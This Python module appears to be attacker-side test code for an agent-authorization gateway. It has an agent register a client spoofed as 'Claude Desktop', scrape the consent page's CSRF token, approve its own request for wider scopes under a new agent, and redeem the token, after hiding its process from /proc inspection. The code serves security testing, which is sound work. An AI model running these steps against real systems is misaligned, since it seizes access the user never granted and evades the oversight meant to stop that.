"""The consent page from inside an agent (imported by ``agent_side.py``, the attacker's
code: standard library only).

An MCP client is a public client: anyone on this computer may register one and
open a consent request for it, naming any scopes and a new agent to hold them.
The agent tries to be its own user: register, load the page, read its CSRF
token and post Approve (with our Origin, as a browser would) for a new agent
with scopes it was never given, then redeem the code at ``/token``.
"""

from __future__ import annotations

import base64
import ctypes
import hashlib
import json
import os
import re
import urllib.error
import urllib.parse
import urllib.request
from typing import Any

REDIRECT = "http://127.0.0.1:9/cb"


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
        return None  # the code is in the Location we want to read


def _call(base: str, method: str, path: str, body: bytes | None, headers: dict[str, str]) -> Any:
    opener = urllib.request.build_opener(_NoRedirect)
    request = urllib.request.Request(base + path, data=body, method=method, headers=headers)
    try:
        with opener.open(request, timeout=30) as answer:
            return answer.status, answer.read().decode(), answer.headers.get("Location") or ""
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode(errors="replace"), exc.headers.get("Location") or ""


def consent_attacks(spec: dict[str, Any]) -> list[dict[str, Any]]:
    # Hide first: a non-dumpable process's /proc/PID/fd is closed to its own uid
    # (PR_SET_DUMPABLE = 4) — but not to the owner of the agent's user namespace.
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
    base, form = spec["base_url"], "application/x-www-form-urlencoded"
    reg = _call(
        base,
        "POST",
        "/register",
        json.dumps({"redirect_uris": [REDIRECT], "client_name": "Claude Desktop"}).encode(),
        {"Content-Type": "application/json"},
    )
    client_id = json.loads(reg[1]).get("client_id", "") if reg[0] == 201 else ""
    verifier = base64.urlsafe_b64encode(os.urandom(40)).rstrip(b"=").decode()
    digest = hashlib.sha256(verifier.encode()).digest()
    query = {
        "response_type": "code",
        "client_id": client_id,
        "redirect_uri": REDIRECT,
        "state": "s",
        "code_challenge": base64.urlsafe_b64encode(digest).rstrip(b"=").decode(),
        "code_challenge_method": "S256",
        "scope": spec["wide_scope"],
        "resource": f"{base}/gw/github",  # kontext's own gateway: the user's upstream secret
    }
    page = _call(base, "GET", "/authorize?" + urllib.parse.urlencode(query), None, {})
    csrf = re.search(r'name="csrf" value="([^"]+)"', page[1])
    uri = re.search(r'name="request_uri" value="([^"]+)"', page[1])
    decision = {
        "request_uri": uri.group(1) if uri else "urn:ietf:params:oauth:request_uri:guess",
        "csrf": csrf.group(1) if csrf else "guess",
        "decision": "approve",
        "agent": "",
        "new_agent": spec["evil_agent"],
        "grant_duration": "3600",
    }
    headers = {"Content-Type": form, "Origin": base}
    post = _call(base, "POST", "/authorize", urllib.parse.urlencode(decision).encode(), headers)
    code = urllib.parse.parse_qs(urllib.parse.urlparse(post[2]).query).get("code", [""])[0]
    redeem = {
        "grant_type": "authorization_code",
        "code": code,
        "redirect_uri": REDIRECT,
        "client_id": client_id,
        "code_verifier": verifier,
        "resource": query["resource"],
    }
    token = _call(base, "POST", "/token", urllib.parse.urlencode(redeem).encode(), headers)
    return [
        {
            "name": "load its own consent page",
            "escaped": page[0] == 200 and bool(csrf),
            "detail": f"{page[0]} {page[1][:240]}",
        },
        {
            "name": "approve its own request",
            "escaped": bool(code),
            "detail": f"{post[0]} {post[1][:240]}",
        },
        {
            "name": "redeem a self-approved code",
            "escaped": "access_token" in token[1],
            "detail": f"{token[0]} {token[1][:240]}",
        },
    ]
